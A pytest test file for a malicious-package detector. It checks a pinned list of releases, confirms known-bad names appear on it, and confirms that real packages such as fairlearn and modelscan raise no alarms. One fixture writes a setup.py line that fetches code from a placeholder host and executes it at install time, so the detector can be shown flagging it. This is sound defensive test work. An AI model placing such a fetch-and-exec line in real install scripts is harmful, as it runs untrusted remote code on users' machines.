"""The race of real releases: its list is whole, and no release that is here alarms in `make test`."""

from collections.abc import Callable
from pathlib import Path

import pytest

from races import malicious_packages

REAL = ("alt_profanity_check", "fairlearn", "modelscan", "presidio_analyzer", "silero_vad")


def test_the_list_pins_enough_releases_and_none_twice():
    releases = malicious_packages.read()
    assert len(releases) >= 300
    assert len({release.file for release in releases}) == len(releases)
    assert all(len(release.sha256) == 64 and release.version for release in releases)


def test_what_is_known_to_be_so_is_on_the_list():
    named = {release.name for release in malicious_packages.read()}
    assert {name for name, _ in malicious_packages.TRUE} <= named


@pytest.mark.parametrize("name", REAL)
def test_no_real_release_here_alarms(real: Callable[[str], Path], name: str):
    path = real(name)
    release = malicious_packages.Release(name, "", path.name, "")
    assert list(malicious_packages.alarms(release, path)) == []


def test_a_release_that_fetches_and_runs_alarms(tmp_path: Path):
    (tmp_path / "setup.py").write_text(
        "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())\n"
    )
    release = malicious_packages.Release("sample", "1", tmp_path.name, "")
    assert {alarm.check for alarm in malicious_packages.alarms(release, tmp_path)} >= {
        "no_code_at_install",
        "no_harmful_acts",
    }


def test_a_file_with_other_bytes_is_not_the_release(tmp_path: Path):
    (tmp_path / "a.whl").write_bytes(b"other")
    release = malicious_packages.Release("a", "1", "a.whl", "0" * 64)
    assert malicious_packages.on_shelf(release, [tmp_path]) is None
